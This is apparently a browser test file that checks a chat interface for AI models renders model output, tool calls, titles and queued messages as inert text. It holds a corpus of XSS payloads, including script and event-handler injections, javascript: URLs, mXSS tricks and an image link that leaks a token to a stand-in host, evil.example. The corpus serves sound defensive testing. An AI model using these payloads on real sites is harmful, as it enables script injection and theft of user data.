import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { say } from '../browser.mjs';
import { endBrowser, until, world } from './world.mjs';

after(endBrowser);

/** Known kinds of attack; each would call `pwned` or ask evil.example. */
const CORPUS = [
  '<script>pwned()</script>', '<img src=x onerror=pwned()>', '<svg onload=pwned()>', '<svg><script>pwned()</script></svg>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>', '<a href="javascript:pwned()">x</a>', '[x](javascript:pwned())',
  '[x](JaVaScRiPt:pwned())', '[x](data:text/html,<script>pwned()</script>)', '[x](vbscript:pwned())', '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>', '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/b)}</style>',
  '<div style="background:url(https://evil.example/c)">x</div>', '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">', '<base href=https://evil.example/>', '<form action=https://evil.example><button>x</button></form>',
  '![secret](https://evil.example/leak.png?q=token)', '![x](javascript:pwned())', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '```"><script>pwned()</script>\nx\n```', '`</code><script>pwned()</script>`', '| <img src=x onerror=pwned()> |\n|---|\n| <script>pwned()</script> |',
  '<video><source onerror=pwned()></video>', '<object data=javascript:pwned()></object>', '<template><script>pwned()</script></template>', '\u202e<script>pwned()</script>',
  '"><script>pwned()</script>', '</title><script>pwned()</script>', '${pwned()}', '{{constructor.constructor("pwned()")()}}',
];

async function watched(t, options) {
  const it = await world(t, options);
  const asked = [];
  await it.page.context().route('**/*', (route) => {
    const { host } = new URL(route.request().url());
    if (host === new URL(it.server.base).host) return route.continue();
    asked.push(route.request().url());
    return route.abort();
  });
  const called = [];
  await it.page.exposeFunction('pwned', () => called.push(1));
  it.page.on('dialog', (dialog) => { called.push('dialog'); dialog.dismiss(); });
  await it.page.reload();
  const harmless = async () => {
    await it.page.waitForTimeout(300);
    assert.deepEqual(called, []);
    assert.deepEqual(asked, []);
    const bad = await it.page.evaluate(() => [...document.querySelectorAll('body *')].filter((each) => (
      ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META', 'FORM', 'SCRIPT', 'STYLE', 'LINK'].includes(each.tagName) && !each.matches('form.deny') && each.closest('.scroller, .drawer, .top, .queue')
      || [...each.attributes].some((attribute) => attribute.name.startsWith('on') || /^\s*(javascript|vbscript|data:text)/i.test(attribute.value))
    )).map((each) => each.outerHTML.slice(0, 120)));
    assert.deepEqual(bad, []);
  };
  return { ...it, harmless };
}

test('what models, tools and people write stays text', async (t) => {
  const { page, model, server, harmless } = await watched(t, { config: 'approvals: { rules: [{ tool: "*", decision: allow }] }' });
  writeFileSync(join(server.workspace, 'evil.txt'), CORPUS.join('\n'));
  const text = CORPUS.join('\n\n');
  model.answers.push({ reasoning: text, text, piece: 40, delay: 1, calls: [{ name: 'read', args: { path: 'evil.txt' } }, { name: CORPUS[0], args: { [CORPUS[1]]: CORPUS[2], path: CORPUS[3] } }] }, { text: `${text}\n\nAll said.` });
  await say(page, text);
  await page.locator('.prose', { hasText: 'All said.' }).waitFor();
  await until('rendered', async () => (await page.locator('.block.plain').count()) === 0);
  await harmless();
  for (const line of await page.locator('.tool-line').all()) if (await line.getAttribute('aria-expanded') === 'false') await line.click();
  await page.locator('.reasoning:visible summary').first().click();
  await harmless();
  const [{ id }] = (await server.api('GET', '/api/sessions')).sessions;
  await server.api('PATCH', `/api/sessions/${id}`, { title: CORPUS[1] });
  await until('the title', async () => (await page.locator('.session-title').first().innerText()) === CORPUS[1]);
  await page.reload();
  await page.locator('.prose', { hasText: 'All said.' }).waitFor();
  await harmless();
  const blocked = page.locator('a.blocked-image').first();
  assert.match(await blocked.innerText(), /evil\.example, not loaded/);
  assert.equal(await blocked.getAttribute('rel'), 'noopener noreferrer');
  assert.deepEqual(page.failures, []);
});

test('questions and waiting messages stay text', async (t) => {
  const { page, model, harmless } = await watched(t);
  model.answers.push({ text: 'x', calls: [{ name: 'bash', args: { command: CORPUS.join('\n'), description: CORPUS[1] } }] });
  await say(page, 'Go');
  await page.locator('.approval').waitFor();
  // What turns the direction of reading is shown as what it is.
  const shown = CORPUS.join('\n').replaceAll('\u202e', '\\u{202e}');
  assert.equal(await page.locator('pre.command').innerText(), shown);
  for (const text of CORPUS.slice(0, 5)) await say(page, text);
  await until('chips', async () => (await page.locator('#queue .chip').count()) === 5);
  await harmless();
});

test('the policy of the page forbids what the wall would have let through', async (t) => {
  const { page } = await watched(t);
  const tried = await page.evaluate(async () => {
    const refused = [];
    try { document.body.innerHTML += '<b>x</b>'; } catch { refused.push('markup'); }
    try { trustedTypes.createPolicy('other', {}); } catch { refused.push('policy'); }
    const script = document.createElement('script');
    try { script.text = 'window.ran = 1'; document.head.append(script); } catch { refused.push('script'); }
    try { await fetch('https://evil.example/'); } catch { refused.push('connection'); }
    return { refused, ran: window.ran };
  });
  assert.deepEqual(tried, { refused: ['markup', 'policy', 'script', 'connection'], ran: undefined });
});
